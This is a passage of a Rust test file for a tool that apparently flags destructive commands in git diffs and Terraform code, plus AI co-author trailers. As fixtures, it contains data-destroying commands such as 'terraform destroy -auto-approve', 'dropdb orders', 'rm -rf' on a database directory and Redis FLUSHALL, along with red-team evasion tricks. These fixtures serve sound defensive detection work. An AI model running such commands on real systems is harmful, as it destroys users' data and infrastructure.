            &["mongodb collection drop"],
        ),
        // Not counted: a filter, a comment, a message, a file that does
        // not use the library (a data frame's `drop()`), a program
        // outside a scripts folder, this machine or a preview's host.
        ("scripts/tidy.py", "import pymongo\norders.delete_many({\"status\": \"stale\"})", none),
        ("scripts/wipe.py", "import redis\n# r.flushall()", none),
        ("scripts/notes.py", "import redis\nprint(\"flushall is never run here\")", none),
        ("scripts/report.py", "import pandas as pd\nframe.drop()\ncache.flushall()", none),
        ("scripts/report.py", "import pymongo\nframe = frame.drop(columns=[\"a\"])", none),
        ("src/orders/cache.py", "import redis\nr.flushall()", none),
        ("scripts/reset_cache.py", "import redis\nredis.Redis(host='localhost').flushall()", none),
        ("scripts/reset_cache.py", "import redis\nredis.Redis(host='cache.preview.svc').flushall()", none),
        // Not counted: a short-lived environment, a comment, text that is
        // printed, a program outside a scripts folder, a call moved.
        ("scripts/preview.py", "os.system(f\"kubectl delete namespace pr-{number}\")", none),
        ("scripts/cleanup.py", "# os.system('terraform destroy')\nprint(\"run terraform destroy by hand\")", none),
        ("src/orders/admin.py", "os.system('terraform destroy -auto-approve')", none),
        ("ops/nuke.go", "// exec.Command(\"terraform\", \"destroy\")", none),
        // (Shell scripts too: help, and a folder for a short-lived environment.)
        ("scripts/doc.sh", "terraform destroy -help", none),
        ("scripts/reset.sh", "cd infra/envs/dev && terraform destroy -auto-approve", none),
    ];
    for (path, added, expected) in cases {
        assert_eq!(read(path, added, ""), *expected, "{path}: {added}");
    }
    // A call reworded destroys nothing new.
    assert!(
        read(
            "scripts/cleanup.py",
            "subprocess.run(['terraform', 'destroy'], check=True)",
            "os.system('terraform destroy')"
        )
        .is_empty()
    );
}

/// Regression (a red team): a command or a call moved from one file to
/// another (between workflows, into the script a workflow runs) runs
/// nothing new; one more than was taken out still counts.
#[test]
fn commands_moved_between_files_destroy_nothing_new() {
    use blastgate_ingest::git::destructive_commands;
    let file = |path: &str, removed: &[&str], added: &[&str]| {
        let mut patch = format!("diff --git a/{path} b/{path}\n--- a/{path}\n+++ b/{path}\n@@ -1 +1 @@\n");
        for line in removed {
            patch.push_str(&format!("-{line}\n"));
        }
        for line in added {
            patch.push_str(&format!("+{line}\n"));
        }
        patch
    };
    let moved = file(".github/workflows/ops.yml", &["      - run: terraform destroy -auto-approve"], &[])
        + &file(".github/workflows/deploy.yml", &[], &["      - run: terraform destroy -auto-approve"]);
    assert!(destructive_commands(moved.as_bytes(), |_| true).is_empty());
    let into_script = file(".github/workflows/deploy.yml", &["      - run: ./scripts/teardown.sh"], &[])
        + &file("scripts/ci.sh", &[], &["./scripts/teardown.sh"]);
    assert!(destructive_commands(into_script.as_bytes(), |_| true).is_empty());
    let one_more = moved + &file("scripts/ci.sh", &[], &["terraform destroy -auto-approve"]);
    let found = destructive_commands(one_more.as_bytes(), |_| true);
    assert_eq!(found.values().flatten().collect::<Vec<_>>(), ["terraform destroy"], "{found:?}");
}

/// A module block gated by a variable is gated as its source: turning the
/// variable off destroys a database module's database (red team 11).
#[test]
fn a_gated_module_is_its_source() {
    let main = b"module \"db\" {\n  count  = var.create_db ? 1 : 0\n  source = \"terraform-aws-modules/rds/aws\"\n}\n";
    let gates = blastgate_ingest::git::gated_types(&[main]);
    let want: Vec<(String, bool)> = vec![("module terraform-aws-modules/rds/aws".to_owned(), true)];
    assert_eq!(gates.get("create_db").map(|g| g.iter().cloned().collect::<Vec<_>>()), Some(want));
}

/// A module's own switch set from a variable gates it as `count` does,
/// and set to `false` leaves the module no instance; a part's switch is
/// an edit (red team 29, F4).
#[test]
fn a_module_switch_gates_the_module() {
    let main = b"module \"db\" {\n  source = \"terraform-aws-modules/rds/aws\"\n  create_db_instance = var.with_db\n  create_db_parameter_group = var.with_group\n}\n";
    let gates = blastgate_ingest::git::gated_types(&[main]);
    let want: Vec<(String, bool)> = vec![("module terraform-aws-modules/rds/aws".to_owned(), true)];
    assert_eq!(gates.get("with_db").map(|g| g.iter().cloned().collect::<Vec<_>>()), Some(want));
    assert!(!gates.contains_key("with_group"), "{gates:?}");
    let count = |text: &str| blastgate_ingest::git::declared_counts(text.as_bytes()).get("module x").copied();
    let module = |switch: &str| format!("module \"db\" {{\n  source = \"x\"\n  {switch}\n}}\n");
    assert_eq!(count(&module("create = true")), Some(1));
    for off in ["create = false", "enabled = false", "create_bucket = false", "create_table=\"false\""] {
        assert_eq!(count(&module(off)), None, "{off}");
    }
    for on in ["create_db_parameter_group = false", "create_random_password = false", "tags = { create = false }"] {
        assert_eq!(count(&module(on)), Some(1), "{on}");
    }
}

/// What a resource is replaced on is read at the block's own level, over
/// several lines, without comments or layout, and not from a heredoc's
/// text or a type that holds no data (red team 29, F4).
#[test]
fn replacing_values_are_read_at_the_blocks_own_level() {
    let text = b"resource \"aws_rds_cluster\" \"ledger\" {\n  cluster_identifier = \"ledger\" // prod\n  availability_zones = [\n    \"eu-west-1a\",\n    \"eu-west-1b\",\n  ]\n  serverlessv2_scaling_configuration {\n    engine = \"nested\"\n  }\n  master_password = <<EOT\nengine = \"mysql\"\nEOT\n}\nresource \"aws_iam_role\" \"app\" {\n  name = \"app\"\n}\nresource \"aws_s3_bucket\" \"logs\" { bucket = \"acme-logs\" }\n";
    let found = blastgate_ingest::git::replacing_values(text);
    let pairs = |address: &str| -> Vec<(String, String)> {
        found.get(address).map(|v| v.clone().into_iter().collect()).unwrap_or_default()
    };
    assert_eq!(
        pairs("aws_rds_cluster.ledger"),
        kv(&[("availability_zones", "[\"eu-west-1a\",\"eu-west-1b\"]"), ("cluster_identifier", "\"ledger\"")])
    );
    assert_eq!(pairs("aws_s3_bucket.logs"), kv(&[("bucket", "\"acme-logs\"")]));
    assert!(!found.contains_key("aws_iam_role.app"), "{found:?}");
    // Spellings of one value read alike: a set's order and trailing comma,
    // one interpolation as its expression; a heredoc inside a value is read
    // whole, and what follows it still read (red team 33).
    let spelled = |value: &str| -> String {
        let text = format!(
            "resource \"aws_rds_cluster\" \"l\" {{\n  availability_zones = {value}\n  cluster_identifier = \"x\"\n}}\n"
        );
        let found = blastgate_ingest::git::replacing_values(text.as_bytes());
        assert_eq!(found["aws_rds_cluster.l"]["cluster_identifier"], "\"x\"", "{value}");
        found["aws_rds_cluster.l"]["availability_zones"].clone()
    };
    let zones = spelled("[\"a\", \"b\"]");
    assert_eq!(spelled("[\n    \"b\",\n    \"a\",\n  ]"), zones);
    assert_eq!(spelled("[\"${var.b}\", \"a\"]"), spelled("[var.b, \"a\"]"));
    assert_eq!(spelled("trimspace(<<EOT\n  a, }\nEOT\n  )"), "trimspace(<<EOTa,}EOT)");
    let one =
        blastgate_ingest::git::replacing_values(b"resource \"aws_s3_bucket\" \"b\" {\n  bucket = \"${var.name}\"\n}\n");
    assert_eq!(one["aws_s3_bucket.b"]["bucket"], "var.name");
    use blastgate_ingest::git::replaces;
    for (argument, before, after, replaced) in [
        ("identifier", Some("\"orders\""), "\"orders-v2\"", true),
        ("identifier", Some("\"orders\""), "var.identifier", false),
        ("location", Some("\"westeurope\""), "azurerm_resource_group.rg.location", false),
        ("engine", Some("\"postgres\""), "\"mysql\"", true),
        ("storage_encrypted", Some("false"), "true", true),
        ("identifier", None, "var.identifier", true),
        ("bucket", None, "\"assets\"", true),
        ("fifo_queue", None, "false", false),
        ("snapshot_identifier", None, "\"orders-final\"", true),
        ("range_key", None, "\"created_at\"", true),
        ("identifier", Some("\"orders-prod\""), "\"orders-${var.env}\"", false),
        ("bucket", Some("\"${var.env}-assets\""), "\"${var.env}-static\"", true),
        ("project", None, "var.project_id", false),
        ("availability_zones", Some("[\"a\",\"b\"]"), "[\"a\",\"c\"]", true),
    ] {
        assert_eq!(replaces(argument, before, after), replaced, "{argument}: {before:?} -> {after}");
    }
    // Hostile: unclosed brackets and braces end with the text.
    let open = b"resource \"aws_s3_bucket\" \"b\" {\n  bucket = [[[[\n";
    assert_eq!(blastgate_ingest::git::replacing_values(open).len(), 1);
}

/// The Linux kernel credits a co-author with `Co-developed-by:` (beside a
/// `Signed-off-by:`): a known AI identity in either counts as in
/// `Co-authored-by:`, and a person co-developing is one of the change's
/// people; a person signing off (a maintainer applying the patch) is not
/// (a red team: Claude in `Co-developed-by:` was no AI, and Alice, who
/// co-wrote the commit, could approve it).
#[test]
fn co_developed_by_and_signed_off_by_name_ai_and_co_developed_by_names_people() {
    let agents = AiAgents::default();
    for trailer in [
        "Co-developed-by: Claude <noreply@anthropic.com>",
        "Signed-off-by: Claude <noreply@anthropic.com>",
        "Co-developed-by: Cursor Agent <cursoragent@cursor.com>",
    ] {
        let c = commit(&format!("s\n\nBody.\n\n{trailer}\nSigned-off-by: Dev <dev@example.com>"));
        assert_eq!(provenance(std::slice::from_ref(&c), &agents).ai, Some(AiInvolvement::Generated), "{trailer}");
        assert_eq!(blastgate_ingest::git::people(&[c], &agents), ["dev@example.com"], "{trailer}");
    }
    let c = commit(
        "s\n\nBody.\n\nCo-developed-by: Alice <alice@corp.com>\nSigned-off-by: Alice <alice@corp.com>\n\
         Signed-off-by: Maintainer <maint@corp.com>",
    );
    assert_eq!(provenance(std::slice::from_ref(&c), &agents).ai, None);
    assert_eq!(blastgate_ingest::git::people(&[c], &agents), ["alice@corp.com", "dev@example.com"]);
    // A sign-off counts by its address: a maintainer named like a tool
    // signs off as a person (a red team's false alarm).
    for trailer in ["Signed-off-by: Claude <claude@corp.example>", "Signed-off-by: Amp <amp@corp.example>"] {
        let c = commit(&format!("s\n\nBody.\n\n{trailer}"));
        assert_eq!(provenance(&[c], &agents).ai, None, "{trailer}");
    }
}

/// A commit template's blank (`Assisted-by: none`, `N/A`, `-`) names no
/// tool, as `tool: none` in a changeset does not (a red team: a junior's
/// commit went to senior for it); `unknown` is an AI nobody named.
#[test]
fn an_ai_trailer_of_a_placeholder_names_no_ai() {
    let agents = AiAgents::default();
    for trailer in ["Assisted-by: none", "Assisted-by: N/A", "Generated-by: -", "Agent: null"] {
        let c = commit(&format!("s\n\nBody.\n\n{trailer}"));
        assert_eq!(provenance(&[c], &agents).ai, None, "{trailer}");
    }
    let c = commit("s\n\nBody.\n\nAssisted-by: unknown");
    assert_eq!(provenance(&[c], &agents).ai, Some(AiInvolvement::Assisted));
}

/// One run of `--raw --numstat -z` (git 2.47's bytes for an added, a
/// modified and a renamed file) splits into the raw records, the
/// name-status records they hold and the numstat records, which read as
/// the separate runs did.
#[test]
fn raw_and_numstat_of_one_run_split_into_the_separate_outputs() {
    let zeros = "0".repeat(40);
    let listed = format!(
        ":000000 100644 {zeros} 3e757656cf36eca53338e520d134963a44f793f8 A\0n.txt\0\
         :100644 100644 d00491fd7e5bb6fa28c517a0bb32b8b506539d4d 1191247b6d9a206f6ba3d8ac79e26d041dd86941 M\0y t.txt\0\
         :100644 100644 940532533944dd159bfd11136fac2ee35872de38 0fdf397db08b5cecda1b6394d4fef7395c1933ba R083\0x.txt\0z.txt\0\
         1\t0\tn.txt\x001\t0\ty t.txt\x001\t0\t\0x.txt\0z.txt\0"
    );
    let blastgate_ingest::git::RawAndNumstat { raw, statuses, numstat } =
        blastgate_ingest::git::split_raw_numstat_z(listed.as_bytes()).unwrap();
    assert_eq!(statuses, b"A\0n.txt\0M\0y t.txt\0R083\0x.txt\0z.txt\0");
    assert_eq!(numstat, b"1\t0\tn.txt\x001\t0\ty t.txt\x001\t0\t\0x.txt\0z.txt\0");
    assert_eq!(raw.len() + numstat.len(), listed.len());
    let files = merge_name_status(parse_numstat_z(numstat).unwrap(), parse_name_status_z(&statuses).unwrap()).unwrap();
    let paths: Vec<_> = files.iter().map(|f| (f.path.as_str(), f.old_path.as_deref())).collect();
    assert_eq!(paths, [("n.txt", None), ("y t.txt", None), ("z.txt", Some("x.txt"))]);
    assert_eq!(blastgate_ingest::git::parse_blobs_z(raw).unwrap().len(), 3);
    // Nothing changed: nothing either side; a raw record cut short is a
    // syntax error naming it.
    let blastgate_ingest::git::RawAndNumstat { raw, statuses, numstat } =
        blastgate_ingest::git::split_raw_numstat_z(b"").unwrap();
    assert!(raw.is_empty() && statuses.is_empty() && numstat.is_empty());
    let cut = format!(":100644 100644 {zeros} {zeros} R100\0old.txt");
    let err = blastgate_ingest::git::split_raw_numstat_z(cut.as_bytes()).unwrap_err();
    assert!(err.to_string().contains("record 1"), "{err}");
}

/// A resource's own `count` and `for_each`, written out, give its
/// instances; a nested block's, an expression or a heredoc do not.
#[test]
fn resource_instances_are_read_from_literals() {
    use blastgate_ingest::git::{Instances, resource_instances};
    let keys = |k: &[&str]| Instances::Keys(k.iter().map(|k| format!("\"{k}\"")).collect());
    let text = br#"resource "aws_db_instance" "counted" {
  count = 3 # three
}
resource "aws_db_instance" "set" {
  for_each = toset([
    "a", "b",
    "c",
  ])
}
resource "aws_s3_bucket" "map" {
  for_each = {
    logs = { tier = "hot", tags = { a = 1 } }
    "raw-data" = "x=y"
  }
  dynamic "rule" {
    for_each = var.rules
    content {}
  }
}
resource "aws_sqs_queue" "plain" {
  dynamic "redrive" {
    for_each = toset(["x"])
    content {}
  }
}
resource "aws_sqs_queue" "computed" {
  for_each = { for k, v in var.queues : k => v }
}
resource "aws_sqs_queue" "variable" {
  count = var.n
}
resource "aws_sqs_queue" "heredoc" {
  for_each = {
    a = <<EOT
b = 1
EOT
  }
}
resource "aws_sqs_queue" "inline" { count = 2 }
resource "aws_sqs_queue" "json-like" {
  for_each = tomap({"a": 1, "b": 2})
}
"#;
    let found = resource_instances(text);
    assert_eq!(found["aws_db_instance.counted"], Instances::Count(3));
    assert_eq!(found["aws_db_instance.set"], keys(&["a", "b", "c"]));
    assert_eq!(found["aws_s3_bucket.map"], keys(&["logs", "raw-data"]));
    assert_eq!(found["aws_sqs_queue.plain"], Instances::One);
    for unread in ["computed", "variable", "heredoc", "inline"] {
        assert_eq!(found[&format!("aws_sqs_queue.{unread}")], Instances::Unread, "{unread}");
    }
    assert_eq!(found["aws_sqs_queue.json-like"], keys(&["a", "b"]));
    let json = br#"{"resource": {"aws_db_instance": {"a": {"count": 2}, "b": {"for_each": {"x": 1}}, "c": {}}}}"#;
    let found = resource_instances(json);
    assert_eq!(found["aws_db_instance.a"], Instances::Count(2));
    assert_eq!(found["aws_db_instance.b"], keys(&["x"]));
    assert_eq!(found["aws_db_instance.c"], Instances::One);
}

/// Which changes of instances lose one: a count falling, a key taken
/// out, a switch between `count` and `for_each`, unless `moved` blocks
/// move them; Terraform's own move between no key and `[0]`.
#[test]
fn instances_lost_by_a_change() {
    use blastgate_ingest::git::{Instances, instance_moved_from, instances_lost};
    use std::collections::BTreeSet;
    let keys = |k: &[&str]| Instances::Keys(k.iter().map(|k| format!("\"{k}\"")).collect());
    let moved = |k: &[&str]| -> BTreeSet<String> { k.iter().map(|k| (*k).to_owned()).collect() };
    let none = BTreeSet::new();
    let cases = [
        (Instances::Count(3), Instances::Count(2), moved(&[]), true),
        (Instances::Count(3), Instances::Count(2), moved(&["2"]), false),
        (Instances::Count(2), Instances::Count(3), moved(&[]), false),
        (Instances::Count(1), Instances::One, moved(&[]), false),
        (Instances::Count(2), Instances::One, moved(&[]), true),
        (Instances::One, Instances::Count(1), moved(&[]), false),
        (Instances::One, Instances::Count(0), moved(&[]), true),
        (Instances::One, keys(&["a"]), moved(&[]), true),
        (Instances::One, keys(&["a"]), moved(&[""]), false),
        (keys(&["a", "b"]), keys(&["a"]), moved(&[]), true),
        (keys(&["a", "b"]), keys(&["a", "c"]), moved(&["\"b\""]), false),
        (keys(&["a"]), keys(&["a", "b"]), moved(&[]), false),
        (Instances::Count(2), keys(&["a", "b"]), moved(&[]), true),
        (Instances::Count(2), keys(&["a", "b"]), moved(&["0", "1"]), false),
        (keys(&["a"]), Instances::Count(1), moved(&[]), true),
        (Instances::Unread, Instances::Count(0), moved(&[]), false),
        (Instances::Count(3), Instances::Unread, moved(&[]), false),
        (Instances::Count(u64::MAX), Instances::Count(0), moved(&["0"]), true),
    ];
    for (before, after, moved, lost) in &cases {
        assert_eq!(instances_lost(before, after, moved), *lost, "{before:?} -> {after:?}, moved {moved:?}");
    }
    assert!(!instances_lost(&keys(&["a"]), &keys(&["a"]), &none));
    let a = "aws_db_instance.main";
    assert_eq!(instance_moved_from(a, "aws_db_instance.main[2]", "aws_db_instance.other").as_deref(), Some("2"));
    assert_eq!(instance_moved_from(a, "aws_db_instance.main", "aws_db_instance.renamed"), None);
    assert_eq!(instance_moved_from(a, "aws_db_instance.mainx[0]", "aws_db_instance.main[0]"), None);
}

/// Values over several lines are read whole, so that a map's entries are
/// never read as variables of their own (`a = 0` inside `tags = {`), and
/// a `count` or `for_each` that is a variable or local alone is its
/// instances' source.
#[test]
fn variable_values_over_several_lines() {
    use blastgate_ingest::git::{Instances, Reading, instance_sources, value_instances, variable_values};
    let tfvars = b"replicas = 3\ntags = {\na = 0\n}\ndbs = {\n  orders = { size = 1 }\n  ledger = { size = 2 }\n}\n";
    let values = variable_values(tfvars, false);
    assert_eq!(values.keys().collect::<Vec<_>>(), ["dbs", "replicas", "tags"]);
    let keys = ["\"ledger\"", "\"orders\""].map(String::from).into_iter().collect();
    assert_eq!(value_instances(false, &values["dbs"]), Instances::Keys(keys));
    assert_eq!(value_instances(true, &values["replicas"]), Instances::Count(3));
    let tf = b"variable \"dbs\" {\n  default = [\n    \"a\",\n  ]\n  type = list(string)\n}\nlocals {\n  queues = {\n    q = var.q\n  }\n  computed = [for x in var.y : x]\n  n = 2\n}\n";
    let values = variable_values(tf, true);
    assert_eq!(values.keys().collect::<Vec<_>>(), ["dbs", "local.n", "local.queues"]);
    let main = b"resource \"aws_sqs_queue\" \"q\" {\n  for_each = local.queues\n}\nresource \"aws_db_instance\" \"d\" {\n  count = var.n\n}\nresource \"aws_db_instance\" \"gated\" {\n  count = var.on ? 1 : 0\n}\nmodule \"m\" {\n  source   = \"./modules/m\"\n  for_each = keys(var.dbs)\n}\n";
    let sources = instance_sources(&[main]);
    assert_eq!(sources.keys().collect::<Vec<_>>(), ["dbs", "local.queues", "n"]);
    assert!(sources["dbs"].contains(&("module ./modules/m".to_owned(), Reading::ForEach)));
    assert!(sources["n"].contains(&("aws_db_instance".to_owned(), Reading::Count)));
}

/// A `count` of a value's `length(...)` and a `for_each` of a `for`
/// expression over it read the value: keyed by an item's field (`.name`
/// or `["name"]`), by the map's key or a list's index, by the item
/// itself; a filtered `for`, a key that is a template or a field of the
/// key, a source that is no variable or local alone are not read.
#[test]
fn instances_through_for_expressions() {
    use blastgate_ingest::git::{Instances, Reading, instance_sources, read_instances, reading_source};
    let read = |count, value: &str| reading_source(count, value);
    let name = |n: &str| Some((n.to_owned(), Reading::ForField("name".into())));
    assert_eq!(read(false, "{ for db in var.dbs : db.name => db }"), name("dbs"));
    assert_eq!(read(false, "{for db in var.dbs: db[\"name\"] => db}"), name("dbs"));
    assert_eq!(read(false, "{ for k, db in var.dbs : db.name => db... }"), name("dbs"));
    assert_eq!(read(false, "toset([for db in local.dbs : db.name])"), name("local.dbs"));
    assert_eq!(read(false, "{ for i, v in var.l : i => v }"), Some(("l".into(), Reading::ForKey)));
    assert_eq!(read(false, "{ for n in var.names : n => n }"), Some(("names".into(), Reading::ForItem)));
    assert_eq!(read(false, "toset(var.names)"), Some(("names".into(), Reading::ForEach)));
    assert_eq!(read(true, " length( var.names )"), Some(("names".into(), Reading::Length)));
    assert_eq!(read(true, "length(var.names)"), Some(("names".into(), Reading::Length)));
    for unread in [
        "{ for db in var.dbs : db.name => db if db.on }",
        "{ for db in var.dbs : \"${db.name}-x\" => db }",
        "{ for k, v in var.dbs : k.name => v }",
        "{ for db in concat(var.a, var.b) : db.name => db }",
        "{ for db in var.dbs : upper(db.name) => db }",
        "[for db in var.dbs : db.name]",
        "{ forx in var.dbs : x => x }",
    ] {
        assert_eq!(read(false, unread), None, "{unread}");
    }
    let two = "[\n{name=\"orders\",size=10},\n{name=\"users\",size=5},\n]";
    let keys = |k: &[&str]| Instances::Keys(k.iter().map(|k| format!("\"{k}\"")).collect());
    assert_eq!(read_instances(&Reading::ForField("name".into()), two), keys(&["orders", "users"]));
    assert_eq!(read_instances(&Reading::ForField("size".into()), two), Instances::Unread);
    assert_eq!(read_instances(&Reading::ForField("name".into()), "[{name=var.x}]"), Instances::Unread);
    assert_eq!(read_instances(&Reading::ForField("name".into()), "[{name=\"a\",name=\"b\"}]"), keys(&["b"]));
    assert_eq!(read_instances(&Reading::Length, two), Instances::Count(2));
    assert_eq!(read_instances(&Reading::Length, "{a=1,b=2,c=3}"), Instances::Count(3));
    assert_eq!(read_instances(&Reading::Length, "[forxinvar.y:x]"), Instances::Unread);
    assert_eq!(read_instances(&Reading::Length, "var.y"), Instances::Unread);
    assert_eq!(read_instances(&Reading::ForKey, "{a={},\"b\"={}}"), keys(&["a", "b"]));
    assert_eq!(read_instances(&Reading::ForKey, "[\"x\",\"y\"]"), keys(&["0", "1"]));
    assert_eq!(read_instances(&Reading::ForItem, "[\"x\",\"y\"]"), keys(&["x", "y"]));
    assert_eq!(read_instances(&Reading::ForItem, "{a=\"x\"}"), keys(&["x"]));
    assert_eq!(read_instances(&Reading::ForItem, "[\"x\",var.y]"), Instances::Unread);
    let main = b"resource \"aws_db_instance\" \"d\" {\n  for_each = {\n    for db in var.databases :\n    db.name => db\n  }\n}\nresource \"aws_sqs_queue\" \"q\" {\n  count = length(local.queues)\n}\n";
    let sources = instance_sources(&[main]);
    assert!(sources["databases"].contains(&("aws_db_instance".to_owned(), Reading::ForField("name".into()))));
    assert!(sources["local.queues"].contains(&("aws_sqs_queue".to_owned(), Reading::Length)));
}

/// The commands a Terraform configuration runs: a `local-exec`
/// provisioner's string, one-line block or heredoc, a `remote-exec`
/// provisioner's `inline` list over lines, an `external` data source's
/// program; not a `command` of another block, nor a comment.
#[test]
fn terraform_runs_its_provisioners_commands() {
    use blastgate_ingest::git::{terraform_commands, terraform_commands_destroy};
    let text = br#"resource "null_resource" "a" {
  provisioner "local-exec" {
    command     = "echo \"hi\" && psql -c 'DROP TABLE orders'"
    interpreter = ["bash", "-c"]
  }
  # provisioner "local-exec" { command = "aws s3 rb s3://commented --force" }
}
resource "terraform_data" "b" {
  provisioner "local-exec" {
    when    = destroy
    command = <<-EOT
      aws s3 rb s3://orders-data --force
    EOT
  }
}
resource "null_resource" "c" {
  provisioner "remote-exec" {
    inline = [
      "sudo systemctl stop postgresql",
      "sudo rm -rf /var/lib/postgresql/data",
    ]
  }
}
resource "null_resource" "d" {
  provisioner "local-exec" { command = "kubectl delete pvc ledger" }
}
data "external" "e" {
  program = ["bash", "-c", "echo '{}'"]
}
resource "aws_ecs_task_definition" "f" {
  command = "not a provisioner's"
}
"#;
    let commands = terraform_commands(text);
    assert_eq!(
        commands,
        [
            "echo \"hi\" && psql -c 'DROP TABLE orders'",
            "aws s3 rb s3://orders-data --force\n",
            "sudo systemctl stop postgresql",
            "sudo rm -rf /var/lib/postgresql/data",
            "kubectl delete pvc ledger",
            "bash",
            "-c",
            "echo '{}'",
        ]
    );
    let kinds = terraform_commands_destroy(text);
    assert!(kinds.contains_key("database"), "{kinds:?}");
    assert!(kinds.contains_key("PersistentVolumeClaim"), "{kinds:?}");
    assert!(kinds.keys().any(|k| k.contains("s3 rb")), "{kinds:?}");
    assert!(kinds.keys().any(|k| k.contains("database directory")), "{kinds:?}");
}

/// A red team's: a machine's boot script written in Terraform (an
/// `aws_instance`'s `user_data`, an Azure machine's `custom_data`, a
/// Google instance's `metadata_startup_script`), run as root at its first
/// boot, passed unread. Its heredoc or string is read as a shell script,
/// or, when its first line is `#cloud-config`, as a cloud-init config's
/// `runcmd:` and `bootcmd:`; a file's name, a package installed, a
/// comment, or another attribute, runs nothing read.
/// Commands past the 4,096 texts a Terraform file's reading keeps as
/// such still count, each line as a command: 5,000 harmless
/// `remote-exec` strings hid a `dropdb` after them, and one more `dropdb`
/// there is counted as more.
#[test]
fn terraform_commands_past_the_bound_still_count() {
    use blastgate_ingest::git::terraform_commands_destroy;
    let file = |dropdbs: usize| {
        let mut inline: Vec<String> = (0..5000).map(|i| format!("\"echo {i}\"")).collect();
        inline.extend((0..dropdbs).map(|_| "\"dropdb orders\"".to_owned()));
        format!(
            "resource \"null_resource\" \"x\" {{\n  provisioner \"remote-exec\" {{\n    inline = [\n      {}\n    ]\n  }}\n}}\n",
            inline.join(",\n      ")
        )
    };
    assert_eq!(terraform_commands_destroy(file(0).as_bytes()).get("database"), None);
    assert_eq!(terraform_commands_destroy(file(1).as_bytes()).get("database"), Some(&1));
    assert_eq!(terraform_commands_destroy(file(2).as_bytes()).get("database"), Some(&2));
}

#[test]
fn terraform_reads_machines_boot_scripts() {
    use blastgate_ingest::git::terraform_commands_destroy;
    let read = |text: &str| -> Vec<String> { terraform_commands_destroy(text.as_bytes()).into_keys().collect() };
    let instance = |body: &str| {
        format!(
            "resource \"aws_instance\" \"db\" {{\n  ami           = \"ami-123\"\n{body}\n  tags = {{ Name = \"orders\" }}\n}}\n"
        )
    };
    let cases: &[(&str, String, &[&str])] = &[
        ("a heredoc", instance("  user_data = <<-EOF\n    #!/bin/bash\n    set -e\n    dropdb orders\n  EOF"), &["database"]),
        ("a heredoc of no #! line", instance("  user_data = <<EOF\nredis-cli -h cart-cache FLUSHALL\nEOF"), &["redis flushall"]),
        ("a string", instance("  user_data = \"dropdb orders\""), &["database"]),
        ("a string over lines", instance("  user_data = \"#!/bin/bash\\nkubectl delete namespace orders\\n\""), &["Namespace"]),
        (
            "encoded",
            instance("  user_data_base64 = base64encode(<<-EOT\n    #!/bin/sh\n    dropdb orders\n  EOT\n  )"),
            &["database"],
        ),
        (
            "a cloud-init config",
            instance("  user_data = <<-EOF\n    #cloud-config\n    packages: [postgresql-client]\n    runcmd:\n      - [ sh, -c, \"dropdb orders\" ]\n  EOF"),
            &["database"],
        ),
        (
            "a launch template",
            "resource \"aws_launch_template\" \"orders\" {\n  name_prefix = \"orders-\"\n  user_data = base64encode(<<-EOF\n    #cloud-config\n    bootcmd:\n      - redis-cli -h cart-cache FLUSHALL\n  EOF\n  )\n}\n".to_owned(),
            &["redis flushall"],
        ),
        (
            "a Google instance",
            "resource \"google_compute_instance\" \"db\" {\n  name = \"orders\"\n  metadata_startup_script = <<-SCRIPT\n    dropdb orders\n  SCRIPT\n}\n".to_owned(),
            &["database"],
        ),
        (
            "a Google instance's metadata",
            "resource \"google_compute_instance\" \"db\" {\n  metadata = {\n    startup-script = \"dropdb orders\"\n  }\n}\n".to_owned(),
            &["database"],
        ),
        (
            "an Azure machine",
            "resource \"azurerm_linux_virtual_machine\" \"db\" {\n  custom_data = base64encode(<<-EOF\n    #!/bin/bash\n    kubectl delete namespace orders\n  EOF\n  )\n}\n".to_owned(),
            &["Namespace"],
        ),
        (
            "a heredoc past its pieces",
            instance(&format!("  user_data = <<-EOF\n{}    dropdb orders\n  EOF", "    echo step\n".repeat(5000))),
            &["database"],
        ),
        // (Near misses.)
        ("a file's name", instance("  user_data = file(\"init.sh\")"), &[]),
        ("a template", instance("  user_data = templatefile(\"${path.module}/init.tftpl\", { db = \"orders\" })"), &[]),
        ("a package installed", instance("  user_data = <<-EOF\n    #!/bin/bash\n    apt-get install -y nginx\n    systemctl start nginx\n  EOF"), &[]),
        ("a comment", instance("  # user_data = \"dropdb orders\""), &[]),
        (
            "a cloud-init file written",
            instance("  user_data = <<-EOF\n    #cloud-config\n    write_files:\n      - path: /etc/motd\n        content: dropdb orders\n  EOF"),
            &[],
        ),
        ("another attribute", instance("  description = \"dropdb orders\""), &[]),
    ];
    for (what, text, want) in cases {
        assert_eq!(read(text), *want, "{what}: {text}");
    }
    // Another heredoc's lines are its text: a `user_data = <<EOF` written
    // in one takes no lines of the configuration after it for its script
    // (the provisioner below it is read as one).
    let hidden = "locals {\n  note = <<X\nuser_data = <<EOF\nX\n}\nresource \"null_resource\" \"n\" {\n  provisioner \"local-exec\" {\n    command = \"dropdb orders\"\n  }\n}\nlocals {\n  more = <<Y\nEOF\nY\n}\n";
    assert_eq!(read(hidden), ["database"]);
}

/// A red team's: an ECS task definition written in Terraform
/// (`aws_ecs_task_definition`'s `container_definitions`, `jsonencode` of
/// HCL or JSON in a heredoc) ran its containers' commands unread. Each
/// container's `command` and `entryPoint` are read as a task definition
/// file's are, the two as one command line; another key, or another
/// container's, runs nothing.
#[test]
fn terraform_reads_ecs_container_definitions() {
    use blastgate_ingest::git::terraform_commands_destroy;
    let read = |text: &str| -> Vec<String> { terraform_commands_destroy(text.as_bytes()).into_keys().collect() };
    let task = |definitions: &str| {
        format!(
            "resource \"aws_ecs_task_definition\" \"migrate\" {{\n  family = \"orders-migrate\"\n  container_definitions = {definitions}\n  cpu = 256\n}}\n"
        )
    };
    let cases: &[(&str, String, &[&str])] = &[
        (
            "jsonencode over lines",
            task(
                "jsonencode([\n    {\n      name    = \"migrate\"\n      image   = \"postgres:16\"\n      command = [\"sh\", \"-c\", \"dropdb orders\"]\n    }\n  ])",
            ),
            &["database"],
        ),
        (
            "jsonencode on one line",
            task("jsonencode([{ name = \"migrate\", image = \"postgres:16\", command = [\"dropdb\", \"orders\"] }])"),
            &["database"],
        ),
        (
            "a list over lines",
            task(
                "jsonencode([\n    {\n      entryPoint = [\n        \"redis-cli\",\n        \"-h\", \"cart-cache\",\n        \"FLUSHALL\",\n      ]\n    }\n  ])",
            ),
            &["redis flushall"],
        ),
        (
            "an entrypoint and a command",
            task(
                "jsonencode([{\n    entryPoint = [\"redis-cli\", \"-h\", \"cart-cache\"]\n    command    = [\"FLUSHALL\"]\n    logConfiguration = { logDriver = \"awslogs\" }\n  }])",
            ),
            &["redis flushall"],
        ),
        (
            "a JSON heredoc",
            task(
